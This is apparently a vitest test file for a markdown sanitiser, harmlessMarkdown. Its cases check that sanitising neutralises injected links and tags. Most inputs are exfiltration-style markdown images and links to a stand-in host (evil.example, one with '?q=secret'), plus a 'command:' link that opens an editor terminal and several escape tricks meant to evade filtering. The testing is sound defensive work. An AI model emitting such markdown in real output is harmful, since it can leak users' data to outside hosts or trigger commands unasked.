import { expect, test } from 'vitest';
import { harmlessMarkdown } from '../../../src/core/safety/harmless-markdown.ts';

test.each([
  ['an image', '![x](https://evil.example/?q=secret)'],
  ['a link', '[click](command:workbench.action.terminal.new)'],
  ['a reference', '![x][ref]\n\n[ref]: https://evil.example'],
  ['a tag', '<img src="https://evil.example">'],
  ['an escaped bracket', String.raw`\![x](https://evil.example)`],
  ['an escaped backslash', String.raw`\\![x](https://evil.example)`],
  ['two backslashes before a bracket', String.raw`\\[x](https://evil.example)`],
  ['a fence that ends with its list', '- a\n  ```\n![x](https://evil.example)\n'],
  ['a span that a stray backtick opens', 'a ` b\n` ![x](https://evil.example) `'],
  ['a tag in a span', 'a ` b\n` <img src=https://evil.example> `'],
])('%s is text', (_, markdown) => {
  const shown = harmlessMarkdown(markdown);
  expect(shown).not.toMatch(/(?<!\\)(?:\\\\)*\[/);
  expect(shown).not.toMatch(/<\w/);
});

test('code stays as it is', () => {
  const code = '```ts\nconst a: Array<string> = [b[0]];\n```\n';
  expect(harmlessMarkdown(`Takes \`a[0]\` of \`Array<string>\`:\n\n${code}`)).toBe(
    `Takes \`a[0]\` of \`Array<string>\`:\n\n${code}`,
  );
});

test('a fence is over where its own kind closes it, and text after it is text again', () =>
  expect(harmlessMarkdown('````md\n```\n[a](b)\n````\n[a](b)')).toBe('````md\n```\n[a](b)\n````\n\\[a](b)'));
